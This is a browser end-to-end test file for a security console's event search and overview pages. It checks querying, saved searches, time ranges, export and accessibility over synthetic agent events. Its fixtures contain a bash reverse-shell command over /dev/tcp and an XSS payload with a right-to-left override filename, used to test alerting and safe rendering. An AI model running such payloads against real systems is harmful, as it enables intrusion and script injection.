/** The Search page and the Overview in a real browser, over events that a real agent's connection brought. */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { after, before, test } from 'node:test'
import type { BrowserContext, Page } from 'playwright-core'
import { enrolAgent, TestAgent } from '../../apps/server/src/testing/test-agent.ts'
import { startTestServer, type TestServer } from '../../apps/server/src/testing/test-server.ts'
import { axeFindings } from './parts/axe.ts'
import { firstSignIn, openBrowser } from './parts/browser.ts'

const hourMs = 3_600_000
/** An agent that nobody hears of for a while may raise one more. */
const someAlerts = /^[12] new alerts?$/
const hostile = '<img src=x onerror=alert(1)> \u202egpj.exe'
let own: TestServer
let agent: TestAgent
let browser: BrowserContext
let page: Page
const complaints: string[] = []

before(async () => {
  own = await startTestServer()
  agent = new TestAgent(await enrolAgent(own.server.createEnrolmentToken().token))
  await agent.connect()
  const { assetId } = agent.enrolment
  const connected = (sequence: number, hoursAgo: number) => ({
    ...agent.event(sequence, 'network.connected', {
      transport: 'tcp',
      process: { pid: 90, entityId: 'boot-1-90-1', name: 'curl', executable: '/usr/bin/curl' },
      source: { address: '192.0.2.10', port: 40_000 },
      destination: { address: `198.51.100.${sequence}`, port: 443 },
    }),
    at: Date.now() - hoursAgo * hourMs,
  })
  await agent.deliver(1, [
    ...Array.from({ length: 120 }, (_, index) => connected(index + 1, 1 + (index % 12))),
    agent.started(200, 'ls -l', 200),
    agent.started(201, `echo ${hostile}`, 201),
    agent.started(202, 'bash -i >& /dev/tcp/198.51.100.1/1', 202),
  ])
  assert.ok(assetId)
  browser = await openBrowser()
  page = browser.pages()[0] ?? (await browser.newPage())
  page.setDefaultTimeout(30_000)
  page.on('console', (message) => {
    if (message.type() === 'error' && !/40[01]/.test(message.text())) complaints.push(message.text())
  })
  page.on('pageerror', (error) => complaints.push(error.message))
  await firstSignIn(page, own.server.consoleUrl, own.server.firstUser?.password ?? '')
})
after(async () => {
  await browser?.close()
  agent?.cut()
  await own?.end()
})

const query = () => page.getByRole('textbox', { name: 'Search events' })
const rows = () => page.locator('tbody tr')
async function ask(text: string): Promise<void> {
  await query().fill(text)
  await page.getByRole('search').getByRole('button', { name: 'Search', exact: true }).click()
}
const total = (number: number) => page.getByText(`${number} event${number === 1 ? '' : 's'}`, { exact: true })

test('a question is typed, and mended at its place', async () => {
  await page.goto(`${own.server.consoleUrl}/search`)
  await rows().first().waitFor()
  assert.equal(await rows().count(), 100, 'one page of them')
  await page.getByRole('button', { name: 'Show more' }).click()
  await rows().nth(122).waitFor()
  assert.deepEqual(await axeFindings(page), [])

  await query().fill('type:process.started proces.name:bash')
  await page.getByRole('alert').getByText('There is no such field.').waitFor()
  await page.getByRole('alert').locator('mark').getByText('proces.name', { exact: true }).waitFor()
  await page.getByRole('search').locator('button:disabled').getByText('Search', { exact: true }).waitFor()
  assert.deepEqual(await axeFindings(page), [])

  await ask('type:process.started')
  await total(3).waitFor()
})

test('names of fields are offered while they are typed, also to the keyboard', async () => {
  await page.goto(`${own.server.consoleUrl}/search`)
  await query().fill('')
  await query().pressSequentially('type:process.started process.comm')
  await page.getByRole('option', { name: 'process.commandLine:' }).waitFor()
  await query().press('ArrowDown')
  await query().press('Enter')
  assert.equal(await query().inputValue(), 'type:process.started process.commandLine:')
  await query().pressSequentially('*tcp*')
  await query().press('Enter')
  await total(1).waitFor()
})

test('a search is saved, comes back whole with its time and order, and is deleted and brought back', async () => {
  await page.goto(`${own.server.consoleUrl}/search?q=type%3Anetwork.connected&last=7d&order=oldest`)
  await total(120).waitFor()
  const saved = () => page.getByRole('button', { name: 'Saved searches' }).click()
  await saved()
  await page.getByText('No search is saved yet.').waitFor()
  await page.getByRole('menuitem', { name: 'Save this search' }).click()
  const dialog = page.getByRole('dialog', { name: 'Save this search' })
  await dialog.getByRole('textbox', { name: 'Name' }).fill('Connections <b>')
  assert.deepEqual(await axeFindings(page), [])
  await dialog.getByRole('button', { name: 'Save', exact: true }).click()
  await dialog.waitFor({ state: 'detached' })

  await page.goto(`${own.server.consoleUrl}/search?q=type%3Aprocess.started`)
  await total(3).waitFor()
  await saved()
  await page.getByRole('menuitem', { name: 'Connections <b>' }).click()
  await total(120).waitFor()
  const { searchParams } = new URL(page.url())
  assert.deepEqual(
    ['q', 'last', 'order'].map((name) => searchParams.get(name)),
    ['type:network.connected', '7d', 'oldest'],
  )
  await saved()
  assert.equal(await page.getByRole('menuitem', { name: 'Begin with this filter' }).count(), 0)
  await page.getByRole('menuitem', { name: 'Delete the saved search' }).click()
  await page.getByRole('button', { name: 'Undo' }).click()
  await saved()
  await page.getByRole('menuitem', { name: 'Connections <b>' }).waitFor()
  await page.keyboard.press('Escape')
  // The list of alerts knows nothing of it.
  await page.goto(`${own.server.consoleUrl}/alerts`)
  await page.getByRole('button', { name: 'Saved filters' }).click()
  await page.getByText('No filter is saved yet.').waitFor()
})

test('the oldest come first when asked, and the settings say how much can be searched', async () => {
  await page.goto(`${own.server.consoleUrl}/search?q=type%3Anetwork.connected&last=24h`)
  await total(120).waitFor()
  const newest = await rows().first().getByRole('button').first().innerText()
  await page.getByRole('button', { name: 'Time', exact: true }).click()
  await page.waitForURL('**order=oldest**')
  await page.locator('th[aria-sort=ascending]').waitFor()
  await rows().first().filter({ hasNotText: newest.trim() }).waitFor()
  assert.deepEqual(await axeFindings(page), [])
  await page.goto(`${own.server.consoleUrl}/settings/server`)
  await page
    .getByRole('region', { name: 'Searchable events' })
    .getByText(/events of .* days, since/)
    .waitFor()
  assert.deepEqual(await axeFindings(page), [])
})

test('a bar of the histogram zooms in, and the range is taken back', async () => {
  await page.goto(`${own.server.consoleUrl}/search?q=type%3Anetwork.connected`)
  await total(120).waitFor()
  await page
    .getByRole('button', { name: /^From .* Zoom in$/, disabled: false })
    .first()
    .click()
  await page.getByRole('button', { name: 'Take the range of time back' }).waitFor()
  await total(10).waitFor()
  assert.match(page.url(), /from=.*to=/)
  await page.getByRole('button', { name: 'Take the range of time back' }).click()
  await total(120).waitFor()
})

test('two instants are asked for', async () => {
  await page.goto(`${own.server.consoleUrl}/search?q=type%3Anetwork.connected&last=7d`)
  await total(120).waitFor()
  await page.getByRole('textbox', { name: 'Range of time' }).click()
  await page.getByRole('option', { name: 'From – to …' }).click()
  const form = page.getByRole('dialog')
  const show = form.getByRole('button', { name: 'Show' })
  assert.ok(await show.isDisabled())
  // in the browser's own zone; the events lie one to twelve hours back
  const local = (hoursAgo: number) =>
    page.evaluate<string>(`(() => {
      const at = new Date(Date.now() - ${hoursAgo} * 3600000)
      return new Date(at.getTime() - at.getTimezoneOffset() * 60000).toISOString().slice(0, 16)
    })()`)
  await form.getByLabel('From').fill(await local(1))
  await form.getByLabel('To').fill(await local(4))
  await form.getByText('The end is before the beginning.').waitFor()
  assert.ok(await show.isDisabled())
  await form.getByLabel('From').fill(await local(5.5))
  await form.getByLabel('To').fill(await local(2.5))
  assert.deepEqual(await axeFindings(page), [])
  await show.click()
  await total(30).waitFor()
  assert.match(page.url(), /from=.*to=/)
})

test('an event is opened, its values narrow the question, and it leads to its alerts; hostile text is shown as text', async () => {
  await page.goto(`${own.server.consoleUrl}/search?q=%22onerror%22`)
  await total(1).waitFor()
  await page.getByRole('button', { name: /^Event of/ }).click()
  await page.getByText('"commandLine"').waitFor()
  assert.equal(await page.locator('img[src=x]').count(), 0)
  assert.doesNotMatch((await page.locator('main').innerText()) ?? '', /\u202e/)
  assert.deepEqual(await axeFindings(page), [])
  await page.getByRole('link', { name: 'Alerts with this event' }).click()
  await page.waitForURL('**/alerts?**event=**')
  await page.getByText('No alert').first().waitFor()

  await page.goto(`${own.server.consoleUrl}/search?q=%22dev%2Ftcp%22`)
  await page.getByRole('button', { name: /^Event of/ }).click()
  await page.getByRole('link', { name: 'Alerts with this event' }).click()
  await page.getByText('Shell over a socket').first().waitFor()
})

test('an address brings everybody to the same place, and what was found is taken away', async () => {
  await page.goto(`${own.server.consoleUrl}/search?q=destination.address%3A198.51.100.7&last=7d`)
  await total(1).waitFor()
  assert.equal(await query().inputValue(), 'destination.address:198.51.100.7')
  await page.getByRole('button', { name: 'Download what is found' }).click()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: 'JSON, one event a line' }).click(),
  ])
  assert.match(download.suggestedFilename(), /^events-.*\.ndjson$/)
  const lines = readFileSync(await download.path(), 'utf8')
    .trim()
    .split('\n')
  assert.deepEqual(
    lines.map((line) => JSON.parse(line).destination.address),
    ['198.51.100.7'],
  )
})

for (const width of [1440, 1024, 390])
  test(`${width} pixels: nothing for axe on Search and Overview, nothing wider than the screen`, async () => {
    await page.setViewportSize({ width, height: 900 })
    await page.goto(`${own.server.consoleUrl}/search?q=type%3Anetwork.connected`)
    await total(120).waitFor()
    assert.deepEqual(await axeFindings(page), [])
    await page.goto(`${own.server.consoleUrl}/overview`)
    await page.locator('canvas').waitFor()
    await page.getByText(someAlerts).first().waitFor()
    assert.deepEqual(await axeFindings(page), [])
    const wider = await page.evaluate('document.documentElement.scrollWidth - window.innerWidth')
    assert.ok(Number(wider) <= 0, `${wider} pixels too wide`)
  })

test('the Overview: alerts of a day as a picture and as a table', async () => {
  await page.setViewportSize({ width: 1440, height: 900 })
  await page.goto(`${own.server.consoleUrl}/overview`)
  const panel = page.getByRole('region', { name: 'New alerts over time' })
  await panel.getByText('24 hours', { exact: true }).click()
  await panel.getByText(someAlerts).waitFor()
  await page.getByRole('region', { name: 'Types, last 24 hours' }).getByText('Suspicious Process').waitFor()
  await panel.getByText('As a table').click()
  await panel.locator('tbody tr:nth-child(24)').waitFor()
  assert.equal(await panel.locator('tbody tr').count(), 24)
  assert.deepEqual(complaints, [], 'nothing of it is against the policy')
})
